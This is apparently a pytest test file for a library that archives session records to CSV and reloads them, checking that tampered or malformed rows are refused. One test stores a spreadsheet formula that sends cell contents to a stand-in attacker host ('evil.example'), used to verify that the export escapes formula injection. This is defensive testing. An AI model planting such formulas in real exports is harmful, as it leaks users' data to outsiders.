"""Loading archives (#21): a records folder holds one session's records, checked as the
writers check them; anything refused means nothing is loaded."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from hopelib.errors import StoreError
from hopelib.store import archive_session, load_records, open_store

from .test_store import SESSION, count_rows, fill_every_kind, tamper


def _second_session(data: Path, name: str) -> None:
    """Add a session *name* to a copy of the fixture data (the same partners and agenda)."""
    source = data / "sessions" / SESSION
    target = data / "sessions" / name
    shutil.copytree(source, target)
    yaml = target / "session.yaml"
    yaml.write_text(yaml.read_text(encoding="utf-8").replace(SESSION, name), encoding="utf-8")


def _archive(data: Path, tmp_path: Path) -> Path:
    folder = data / "sessions" / SESSION / "records"
    with open_store(str(tmp_path / "store.sqlite"), data) as store:
        fill_every_kind(store)
        archive_session(store, SESSION)
    return folder


@pytest.mark.parametrize("kind", ["ratings", "notes", "participants", "actions", "withdrawals"])
def test_a_row_of_another_session_is_refused(data_dir: Path, tmp_path: Path, kind: str) -> None:
    _second_session(data_dir, "2021-10-maribor")
    folder = _archive(data_dir, tmp_path)
    path = folder / f"{kind}.csv"
    tamper(path, "session", "2021-10-maribor")
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh:
        with pytest.raises(StoreError) as caught:
            load_records(fresh, folder)
        message = str(caught.value)
        assert f"{path}:2: session: '2021-10-maribor' is another session" in message
        assert f"records of session {SESSION}" in message
        assert sum(count_rows(fresh).values()) == 0


def test_a_folder_outside_sessions_holds_the_session_most_rows_give(
    data_dir: Path, tmp_path: Path
) -> None:
    _second_session(data_dir, "demo-y")
    folder = _archive(data_dir, tmp_path)
    moved = shutil.copytree(folder, tmp_path / "elsewhere")
    tamper(moved / "notes.csv", "session", "demo-y")
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh:
        with pytest.raises(StoreError, match=r"notes\.csv:2: session: 'demo-y' is another"):
            load_records(fresh, moved)
        assert sum(count_rows(fresh).values()) == 0


def test_an_unknown_session_is_named_as_the_writers_name_it(data_dir: Path, tmp_path: Path) -> None:
    folder = _archive(data_dir, tmp_path)
    tamper(folder / "ratings.csv", "session", "2021-10-maribor")
    with (
        open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh,
        pytest.raises(StoreError, match=r"ratings\.csv:2: session: unknown session"),
    ):
        load_records(fresh, folder)


@pytest.mark.parametrize(
    ("kind", "column", "value"),
    [
        ("ratings", "id", "x"),
        ("notes", "id", "1"),
        ("notes", "id", "6F1C2A55-4B0E-4C51-9A34-2F9D1E7C0A11"),  # the writers write lower case
        ("actions", "id", "6f1c2a55-4b0e-4c51-9a34-2f9d1e7c0a1"),
        ("participants", "id", "{6f1c2a55-4b0e-4c51-9a34-2f9d1e7c0a11}"),
        ("action_events", "action", "x"),
        ("withdrawals", "record", "not-an-id"),
    ],
)
def test_ids_have_the_shape_the_writers_give(
    data_dir: Path, tmp_path: Path, kind: str, column: str, value: str
) -> None:
    folder = _archive(data_dir, tmp_path)
    path = folder / f"{kind}.csv"
    tamper(path, column, value)
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh:
        with pytest.raises(StoreError) as caught:
            load_records(fresh, folder)
        assert f"{path}:2: {column}: {value!r} is not a record id" in str(caught.value)
        assert sum(count_rows(fresh).values()) == 0


@pytest.mark.parametrize(
    ("kind", "column", "value"),
    [
        ("notes", "text", "a\x00b"),
        ("notes", "text", "bell\x07"),
        ("actions", "owner", "\x1bOwner"),
        ("ratings", "comment", "esc\x1b[31m"),
        ("participants", "pseudonym", "A\x08K"),
        ("transfer_plans", "keep", "\x0c"),
    ],
)
def test_control_characters_are_refused_as_the_writers_refuse_them(
    data_dir: Path, tmp_path: Path, kind: str, column: str, value: str
) -> None:
    folder = _archive(data_dir, tmp_path)
    path = folder / f"{kind}.csv"
    tamper(path, column, value)
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh:
        with pytest.raises(StoreError) as caught:
            load_records(fresh, folder)
        assert f"{path}:2: " in str(caught.value)
        assert sum(count_rows(fresh).values()) == 0


def test_a_row_with_a_cell_too_many_is_refused(data_dir: Path, tmp_path: Path) -> None:
    folder = _archive(data_dir, tmp_path)
    path = folder / "notes.csv"
    path.write_text(path.read_text(encoding="utf-8").rstrip("\n") + ",extra\n", encoding="utf-8")
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh:
        with pytest.raises(StoreError, match=r"notes\.csv:2: columns: "):
            load_records(fresh, folder)
        assert sum(count_rows(fresh).values()) == 0


def test_the_demo_archives_still_load(tmp_path: Path) -> None:
    from .conftest import PROJECT

    data = PROJECT / "data"
    with open_store(str(tmp_path / "demo.sqlite"), data) as store:
        for session in ("demo-1", "demo-2", "demo-3"):
            assert load_records(store, data / "sessions" / session / "records")["ratings"] > 0


def test_hope_session_archive_and_load_from_the_command_line(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from hopelib.cli import main

    _second_session(data_dir, "2021-10-maribor")
    store = tmp_path / "first.sqlite"
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    with open_store(str(store), data_dir) as opened:
        opened.add_note(SESSION, "north", "@AK", formula)
        opened.add_note(SESSION, "north", "@AK", "two\nlines")
        opened.add_action(SESSION, "north", "@AK", "-call them", owner="+Team")
    options = ["--data", str(data_dir), "--store", str(store)]
    assert main(["session", "archive", SESSION, *options]) == 0
    assert "notes.csv  2 rows" in capsys.readouterr().out  # rows, not lines
    folder = data_dir / "sessions" / SESSION / "records"
    notes = (folder / "notes.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in notes and ",'@ak," in notes
    assert ",'-call them,'+Team," in (folder / "actions.csv").read_text(encoding="utf-8")
    fresh = ["--data", str(data_dir), "--store", str(tmp_path / "fresh.sqlite")]
    assert main(["session", "load", str(folder), *fresh]) == 0
    capsys.readouterr()
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as loaded:
        assert formula in set(loaded.notes(SESSION)["text"])  # exactly as typed
        assert set(loaded.actions(SESSION)["owner"]) == {"+Team"}
    tamper(folder / "notes.csv", "session", "2021-10-maribor")
    other = ["--data", str(data_dir), "--store", str(tmp_path / "other.sqlite")]
    assert main(["session", "load", str(folder), *other]) == 1
    err = capsys.readouterr().err
    assert f"{folder / 'notes.csv'}:2: session: '2021-10-maribor' is another session" in err
    assert "Traceback" not in err
    with open_store(str(tmp_path / "other.sqlite"), data_dir) as untouched:
        assert untouched.notes(SESSION).empty and untouched.ratings(SESSION).empty


@pytest.mark.parametrize(
    "value",
    ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00", "99999999999999999999", "1e400"],
)
def test_a_time_out_of_range_is_refused(data_dir: Path, tmp_path: Path, value: str) -> None:
    folder = _archive(data_dir, tmp_path)
    tamper(folder / "notes.csv", "created_at", value)
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh:
        with pytest.raises(StoreError, match=r"notes\.csv:2: created_at: "):
            load_records(fresh, folder)
        assert sum(count_rows(fresh).values()) == 0


@pytest.mark.parametrize(
    ("kind", "column"),
    [("notes", "id"), ("ratings", "id"), ("participants", "participant"), ("snapshots", "session")],
)
def test_a_record_archived_twice_is_named_not_a_database_error(
    data_dir: Path, tmp_path: Path, kind: str, column: str
) -> None:
    folder = _archive(data_dir, tmp_path)
    path = folder / f"{kind}.csv"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
    path.write_text("".join([*lines, lines[1]]), encoding="utf-8")
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh:
        with pytest.raises(StoreError) as caught:
            load_records(fresh, folder)
        assert f"{path}:{len(lines) + 1}: {column}: " in str(caught.value)
        assert "is already on line 2" in str(caught.value)
        assert sum(count_rows(fresh).values()) == 0


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("criteria", "not json"),
        ("criteria", "{}"),
        ("criteria", '[{"id": "relevance", "min": 5, "max": 1}]'),
        ("criteria", '[{"id": "Bad Id", "min": 1, "max": 5}]'),
        ("criteria", '[{"id": "relevance", "min": "1", "max": 5}]'),
        ("criteria", "[" * 5000 + "]" * 5000),  # nested deeper than any reader goes
        ("agenda", '["job-path", 7]'),
        ("agenda", '"job-path"'),
        ("practice_hashes", '{"job-path": "abc"}'),
        ("catalogue_hash", "not a hash"),
    ],
)
def test_a_damaged_snapshot_is_refused_so_reports_can_read_it(
    data_dir: Path, tmp_path: Path, column: str, value: str
) -> None:
    folder = _archive(data_dir, tmp_path)
    path = folder / "snapshots.csv"
    tamper(path, column, value)
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh:
        with pytest.raises(StoreError) as caught:
            load_records(fresh, folder)
        assert f"{path}:2: {column}:" in str(caught.value)
        assert sum(count_rows(fresh).values()) == 0


def test_a_sound_snapshot_loads_and_reads_back(data_dir: Path, tmp_path: Path) -> None:
    folder = _archive(data_dir, tmp_path)
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh:
        load_records(fresh, folder)
        snapshot = fresh.snapshot(SESSION)
        assert snapshot is not None
        assert [c["id"] for c in snapshot["criteria"]] == ["relevance", "cost_effectiveness"]
        assert fresh.changed_criteria(SESSION) == []


def test_a_records_folder_given_from_inside_names_its_session(
    data_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _second_session(data_dir, "demo-y")
    folder = _archive(data_dir, tmp_path)
    for path in folder.glob("*.csv"):  # every row says demo-y: most rows would name it
        lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
        path.write_text(lines[0] + "".join(line.replace(SESSION, "demo-y") for line in lines[1:]),
                        encoding="utf-8")  # fmt: skip
    monkeypatch.chdir(folder)  # hope session load . from inside sessions/demo-x/records
    with open_store(str(tmp_path / "fresh.sqlite"), data_dir) as fresh:
        with pytest.raises(StoreError, match=r"session: 'demo-y' is another session"):
            load_records(fresh, ".")
        assert sum(count_rows(fresh).values()) == 0
